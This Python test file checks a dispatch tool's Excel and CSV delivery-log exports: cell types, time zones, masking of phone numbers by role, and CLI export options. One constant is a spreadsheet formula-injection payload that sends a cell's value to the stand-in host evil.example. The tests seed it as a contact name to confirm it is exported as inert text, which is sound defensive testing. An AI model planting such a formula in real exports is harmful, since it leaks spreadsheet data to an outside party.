"""Spreadsheets for people open cleanly in Excel and WPS (issue 16 §3).

The writers (``dispatcher.files.exports``) are read back as a spreadsheet reads them: the
.xlsx with openpyxl (cell types, number formats, dates, sheets), the CSV as bytes (BOM,
CRLF). The delivery log's downloads are fetched through the dashboard (``/logs.xlsx``,
``/logs.csv``) and written by ``dispatcher logs --output``, from a campaign whose time
zone differs from the config's, so a time in the wrong zone shows.

The tests marked "after the catalogs merge" check Chinese headers: they pass once the
lead has merged /tmp/i18n/exports.json into dispatcher/locale.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from sqlalchemy import Engine, select

from dispatcher import registry
from dispatcher.accounts.users import add_user
from dispatcher.audience.contacts import import_contacts
from dispatcher.cli import main
from dispatcher.config import parse_config
from dispatcher.delivery.transitions import Transition, advance
from dispatcher.files.exports import (
    CSV_BOM,
    Column,
    display_width,
    sheet_name,
    write_csv,
    write_xlsx,
    xlsx_chunks,
)
from dispatcher.storage.db import as_utc, make_engine
from dispatcher.storage.tables import deliveries
from dispatcher.testing import plan_campaign, sms_campaign_text
from dispatcher.web.app import create_app

SHANGHAI = ZoneInfo("Asia/Shanghai")
ZONE = ZoneInfo("Asia/Urumqi")  # the campaign's: UTC+6, two hours behind the config's
PASSWORD = "correct horse battery"
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"点我")'
# phone as written, E.164, area, district, name
PEOPLE = [("13800138000", "+8613800138000", "residential", "丈八街道", "王小明"),
          ("13800138001", "+8613800138001", "work", "鱼化寨街道", HYPERLINK),
          ("13800138002", "+8613800138002", "street", "丈八街道", "李华")]
TITLE = "平安高新 扫黑除恶专项宣传"
FAILED_PHONE = PEOPLE[0][1]
ENGLISH_HEADERS = ["Record ID", "Time (Asia/Urumqi)", "Campaign", "Campaign title",
                   "Channel", "Placement", "Number or address", "Name", "District", "State",
                   "Error code", "Explanation", "What to do", "Provider's message",
                   "Attempts"]
CHINESE_HEADERS = ["记录编号", "时间（Asia/Urumqi）", "活动", "活动名称", "渠道", "投放",
                   "号码/地址", "姓名", "区", "状态", "错误代码", "说明", "处理建议",
                   "服务商返回信息", "尝试次数"]

COLUMNS = [Column("编号"), Column("时间", "datetime"), Column("号码"), Column("姓名"),
           Column("次数", "number")]


def _workbook(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


# --- the writers --------------------------------------------------------------------------


def test_xlsx_cells_keep_text_as_text_dates_as_dates_and_numbers_as_numbers() -> None:
    moment = datetime(2019, 6, 3, 1, 2, 3, 456_789, tzinfo=UTC)
    rows = [[7, moment, "13800138000", "王小明", 3],
            ["8", datetime(2019, 6, 3, 1, 0), "0298888888", "李\x01华", 1.5],
            [9, "2019-06-03T01:00:00+00:00", "#N/A", None, None]]
    out = io.BytesIO()
    assert write_xlsx(out, COLUMNS, rows, SHANGHAI, "投放记录") == 3
    sheet = _workbook(out.getvalue())["投放记录"]
    header, first, second, third = sheet.iter_rows()
    assert [c.value for c in header] == ["编号", "时间", "号码", "姓名", "次数"]
    assert all(c.font.b for c in header) and sheet.freeze_panes == "A2"
    ident, time, phone, name, count = first
    assert (ident.value, ident.data_type, ident.number_format) == ("7", "s", "@")
    assert (phone.value, phone.data_type, phone.number_format) == ("13800138000", "s", "@")
    assert time.is_date and time.value == datetime(2019, 6, 3, 9, 2, 3)  # Shanghai, to the s
    assert time.number_format == "yyyy-mm-dd hh:mm:ss"
    assert (name.value, count.value, count.data_type) == ("王小明", 3, "n")
    assert second[1].value == datetime(2019, 6, 3, 9, 0)  # a naive time is UTC
    assert second[2].value == "0298888888"  # the leading 0 stays
    assert second[3].value == "李 华"  # a control character Excel refuses is a space
    assert third[1].value == datetime(2019, 6, 3, 9, 0)  # an ISO string is a date too
    assert (third[2].value, third[2].data_type) == ("#N/A", "s")  # text, not an error
    assert third[3].value is None and third[4].value is None


def test_formula_looking_text_stays_text_in_both_formats() -> None:
    rows = [[1, None, "+8613800138000", HYPERLINK, None]]
    out = io.BytesIO()
    write_xlsx(out, COLUMNS, rows, SHANGHAI, "log")
    phone, name = next(_workbook(out.getvalue())["log"].iter_rows(min_row=2))[2:4]
    for cell, value in ((phone, "+8613800138000"), (name, HYPERLINK)):
        # shown as written, stored as text, and marked as Excel marks a typed '=...
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)
    text = io.StringIO(newline="")
    write_csv(text, COLUMNS, rows, SHANGHAI)
    assert list(csv.reader(io.StringIO(text.getvalue()[1:])))[1][2:4] == [
        "'+8613800138000", "'" + HYPERLINK]


def test_sheets_split_after_rows_per_sheet_each_with_its_header() -> None:
    rows = [[i, None, f"+861380013800{i}", f"人{i}", i] for i in range(5)]
    out = io.BytesIO()
    assert write_xlsx(out, COLUMNS, rows, SHANGHAI, "投放记录", rows_per_sheet=2) == 5
    book = _workbook(out.getvalue())
    assert book.sheetnames == ["投放记录", "投放记录 (2)", "投放记录 (3)"]
    found = []
    for sheet in book:
        header, *data = sheet.iter_rows(values_only=True)
        assert header == ("编号", "时间", "号码", "姓名", "次数")
        assert sheet.freeze_panes == "A2" and len(data) <= 2
        found += [row[0] for row in data]
    assert found == ["0", "1", "2", "3", "4"]


def test_an_empty_export_is_a_header() -> None:
    out = io.BytesIO()
    assert write_xlsx(out, COLUMNS, [], SHANGHAI, "log") == 0
    assert list(_workbook(out.getvalue())["log"].values) == [("编号", "时间", "号码", "姓名",
                                                               "次数")]


@pytest.mark.parametrize(("title", "number", "name"), [
    ("投放记录", 1, "投放记录"),
    ("投放记录", 12, "投放记录 (12)"),
    ("a/b\\c[d]:e*f?g", 1, "a b c d  e f g"),
    ("x" * 40, 1, "x" * 31),
    ("x" * 40, 3, "x" * 27 + " (3)"),
    ("'quoted'", 1, "quoted"),
    ("", 1, "Sheet (1)"),
    ("History", 1, "History (1)"),
])
def test_sheet_names_follow_excel_rules(title: str, number: int, name: str) -> None:
    assert sheet_name(title, number) == name
    assert len(name) <= 31


def test_column_widths_count_chinese_characters_double() -> None:
    assert display_width("王小明") == 6 and display_width("abc") == 3
    out = io.BytesIO()
    write_xlsx(out, COLUMNS, [[1, None, "+8613800138000", "鱼化寨街道王小明", 1]], SHANGHAI,
               "log")
    widths = _workbook(out.getvalue())["log"].column_dimensions
    assert widths["D"].width == display_width("鱼化寨街道王小明") + 2
    assert widths["C"].width == len("+8613800138000") + 2


def test_csv_starts_with_the_bom_and_ends_lines_with_crlf() -> None:
    text = io.StringIO(newline="")
    rows = [[1, datetime(2019, 6, 3, 1, tzinfo=UTC), "+8613800138000", "王小明", 2]]
    assert write_csv(text, COLUMNS, rows, SHANGHAI) == 1
    data = text.getvalue().encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8") == (CSV_BOM + "编号,时间,号码,姓名,次数\r\n"
                                    "1,2019-06-03 09:00:00,'+8613800138000,王小明,2\r\n")


def test_a_download_is_the_workbook_written_whole() -> None:
    rows = [[i, None, "+8613800138000", "王小明", i] for i in range(300)]
    data = b"".join(xlsx_chunks(COLUMNS, rows, SHANGHAI, "log"))
    assert len(list(_workbook(data)["log"].values)) == 301


# --- the delivery log's downloads and `dispatcher logs --output` --------------------------


def _seed(engine: Engine) -> None:
    """Three people planned for an SMS in the Urumqi-time campaign; the first number
    undelivered with a Twilio code and a detail naming the number."""
    people = "phone,area,district,name\n" + "".join(
        f'{phone},{area},{district},"{name.replace(chr(34), chr(34) * 2)}"\n'
        for phone, _e164, area, district, name in PEOPLE)
    import_contacts(engine, io.StringIO(people), "residents", "CN")
    text = sms_campaign_text("drive", title=TITLE).replace(
        'timezone = "Asia/Shanghai"', f'timezone = "{ZONE.key}"')
    plan_campaign(engine, text)
    with engine.begin() as conn:
        failed = conn.execute(select(deliveries.c.id).where(
            deliveries.c.target == FAILED_PHONE)).scalar_one()
        advance(conn, [Transition("undelivered", delivery_id=failed, code="30007",
                                  detail=f"carrier blocked {FAILED_PHONE}")], actor="engine")
    for role in ("operator", "planner"):
        add_user(engine, role, role, PASSWORD)


@pytest.fixture
def engine(tmp_path: Path) -> Iterator[Engine]:
    eng = make_engine(f"sqlite:///{tmp_path / 'exports.db'}")
    _seed(eng)
    yield eng
    eng.dispose()


def _signed_in(engine: Engine, role: str, language: str) -> TestClient:
    app = create_app(engine, parse_config({"web": {"public_url": "http://testserver"}}),
                     registry.build_channels({}))
    client = TestClient(app, follow_redirects=False, headers={"Accept-Language": language})
    token = re.search(r'name="csrf" value="([^"]+)"', client.get("/login").text)
    assert token
    signed_in = client.post("/login", data={"name": role, "password": PASSWORD,
                                            "csrf": token.group(1), "next": "/logs"})
    assert signed_in.status_code == 303, signed_in.text
    return client


def _rows_by_number(book: Workbook) -> dict[str, tuple[object, ...]]:
    header, *rows = book["Delivery log"].iter_rows(values_only=True)
    number = header.index("Number or address")
    return {str(row[number]): row for row in rows}


def _changed_at(engine: Engine, target: str, zone: ZoneInfo = ZONE) -> datetime:
    with engine.connect() as conn:
        moment = conn.execute(select(deliveries.c.updated_at)
                              .where(deliveries.c.target == target)).scalar_one()
    return as_utc(moment).astimezone(zone).replace(tzinfo=None, microsecond=0)


def test_xlsx_download_has_text_numbers_local_dates_and_who_was_reached(
        engine: Engine) -> None:
    with _signed_in(engine, "operator", "en") as client:
        response = client.get("/logs.xlsx?campaign=drive")
    assert response.status_code == 200
    assert response.headers["content-type"] == ("application/vnd.openxmlformats-"
                                                "officedocument.spreadsheetml.sheet")
    assert response.headers["content-disposition"].startswith(
        'attachment; filename="delivery-log.xlsx"')
    book = _workbook(response.content)
    sheet = book["Delivery log"]
    assert [c.value for c in next(sheet.iter_rows())] == ENGLISH_HEADERS
    assert sheet.freeze_panes == "A2"
    rows = _rows_by_number(book)
    assert sorted(rows) == sorted(e164 for _p, e164, *_rest in PEOPLE)  # operators unmask
    failed = dict(zip(ENGLISH_HEADERS, rows[FAILED_PHONE], strict=True))
    assert failed["Time (Asia/Urumqi)"] == _changed_at(engine, FAILED_PHONE)
    assert (failed["Campaign"], failed["Campaign title"], failed["Channel"]) == (
        "drive", TITLE, "sms")
    assert (failed["Name"], failed["District"], failed["State"]) == (
        "王小明", "丈八街道", "undelivered")
    assert (failed["Error code"], failed["Placement"], failed["Attempts"]) == ("30007", 1, 0)
    assert "spam" in str(failed["Explanation"]) and failed["What to do"]
    assert failed["Provider's message"] == f"carrier blocked {FAILED_PHONE}"
    phones = [row[6] for row in sheet.iter_rows(min_row=2)]
    assert {(c.data_type, c.number_format) for c in phones} == {("s", "@")}
    named = dict(zip(ENGLISH_HEADERS, rows[PEOPLE[1][1]], strict=True))
    assert named["Name"] == HYPERLINK  # as text: see the cell test above


def test_numbers_are_masked_in_both_downloads_unless_the_role_may_unmask(
        engine: Engine) -> None:
    with _signed_in(engine, "planner", "en") as client:
        book = _workbook(client.get("/logs.xlsx").content)
        text = client.get("/logs.csv").content.decode("utf-8")
    rows = _rows_by_number(book)
    assert sorted(rows) == ["+86 138****8000", "+86 138****8001", "+86 138****8002"]
    assert rows["+86 138****8000"][13] == "carrier blocked +86 138****8000"
    for _phone, e164, *_rest in PEOPLE:
        assert e164 not in text
    assert "'+86 138****8000" in text


def test_csv_download_has_the_bom_crlf_and_the_page_filters(engine: Engine) -> None:
    # not one campaign's rows: times in the config's zone
    with _signed_in(engine, "operator", "en") as client:
        response = client.get("/logs.csv?status=undelivered")
        assert client.get("/logs.csv?status=lost").status_code == 400
        assert client.get("/logs.xlsx?since=yesterday").status_code == 400
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    lines = response.content.decode("utf-8")[1:].split("\r\n")
    assert lines[-1] == "" and len(lines) == 3  # header, one row, the final CRLF
    assert next(csv.reader([lines[0]])) == [
        "Time (Asia/Shanghai)" if h == "Time (Asia/Urumqi)" else h for h in ENGLISH_HEADERS]
    row = next(csv.reader([lines[1]]))
    assert row[1] == f"{_changed_at(engine, FAILED_PHONE, SHANGHAI):%Y-%m-%d %H:%M:%S}"
    assert row[6] == "'" + FAILED_PHONE and row[7] == "王小明"


def test_download_headers_are_chinese_under_zh_cn(engine: Engine) -> None:
    """After the catalogs merge (/tmp/i18n/exports.json)."""
    with _signed_in(engine, "operator", "zh-CN") as client:
        book = _workbook(client.get("/logs.xlsx?campaign=drive").content)
        text = client.get("/logs.csv?campaign=drive").content.decode("utf-8")
    assert book.sheetnames == ["投放记录"]
    assert [c.value for c in next(book["投放记录"].iter_rows())] == CHINESE_HEADERS
    assert text.startswith(CSV_BOM + ",".join(CHINESE_HEADERS) + "\r\n")


# --- dispatcher logs --output ------------------------------------------------------------


def _cli(tmp_path: Path, *args: str, code: int = 0) -> str:
    config = tmp_path / "config.toml"
    config.write_text(f'[database]\nurl = "sqlite:///{tmp_path / "exports.db"}"\n',
                      encoding="utf-8")
    result = CliRunner().invoke(main, ["--config", str(config), "logs", *args])
    assert result.exit_code == code, result.output
    return result.output


def test_cli_writes_the_workbook_the_dashboard_downloads(engine: Engine,
                                                         tmp_path: Path) -> None:
    out = tmp_path / "log.xlsx"
    said = _cli(tmp_path, "--campaign", "drive", "--output", str(out), "--lang", "en",
                "--unmask")
    assert "wrote 3 rows" in said and "Asia/Urumqi" in said
    with _signed_in(engine, "operator", "en") as client:
        downloaded = client.get("/logs.xlsx?campaign=drive").content
    written = _workbook(out.read_bytes())["Delivery log"]
    assert list(written.values) == list(_workbook(downloaded)["Delivery log"].values)
    assert not list(tmp_path.glob("*.part"))


def test_cli_csv_masks_unless_unmask_and_keeps_the_machine_csv(engine: Engine,
                                                               tmp_path: Path) -> None:
    out = tmp_path / "log.txt"
    _cli(tmp_path, "--format", "csv", "--output", str(out), "--lang", "en", "--limit", "2")
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\r\n") == 3  # header + 2
    assert b"+86 138****80" in data and FAILED_PHONE.encode() not in data
    machine = _cli(tmp_path, "--csv", "--limit", "0")  # for programs: unchanged
    assert machine.startswith("id,updated_at,campaign,run,channel,placement,target,status")


def test_cli_headers_follow_lang(engine: Engine, tmp_path: Path) -> None:
    """After the catalogs merge (/tmp/i18n/exports.json)."""
    out = tmp_path / "log.xlsx"
    _cli(tmp_path, "--campaign", "drive", "--output", str(out), "--lang", "zh-CN")
    assert next(_workbook(out.read_bytes())["投放记录"].values) == tuple(CHINESE_HEADERS)


@pytest.mark.parametrize(("args", "says"), [
    (["--format", "xlsx"], "add --output FILE"),
    (["--output", "log.pdf"], "cannot tell the format"),
    (["--output", "log.xlsx", "--json"], "choose one"),
    (["--lang", "fr", "--output", "log.xlsx"], "is not a language of the exports"),
    (["--lang", "en"], "use it with --output"),
])
def test_cli_refuses_options_that_do_not_go_together(engine: Engine, tmp_path: Path,
                                                      args: list[str], says: str) -> None:
    assert says in _cli(tmp_path, *args, code=2)


def test_cli_says_where_it_cannot_write(engine: Engine, tmp_path: Path) -> None:
    out = tmp_path / "missing" / "log.xlsx"
    said = _cli(tmp_path, "--output", str(out), code=1)
    assert f"--output {out}: cannot write there" in said
